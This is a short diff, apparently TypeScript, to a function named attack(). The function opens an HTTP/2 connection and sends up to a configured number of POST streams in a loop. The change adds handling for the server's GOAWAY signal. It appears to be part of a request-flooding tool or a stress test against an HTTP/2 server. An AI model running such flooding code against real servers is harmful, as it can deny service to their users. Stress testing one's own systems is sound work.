@@ -24,12 +24,13 @@ async function attack(): Promise<void> {
   s.on("error", () => {});
   let closed = false;
   s.once("close", () => closed = true);
+  s.once("goaway", () => closed = true);
   await new Promise<void>((resolve) => {
     s.once("connect", () => resolve());
     s.once("close", () => resolve());
   });
   for (let i = 0; i < Number(streamsText); i++) {
-    if (s.destroyed || s.closed) break;
+    if (closed || s.destroyed || s.closed) break;
     try {
       const st = s.request({
         ":method": "POST",
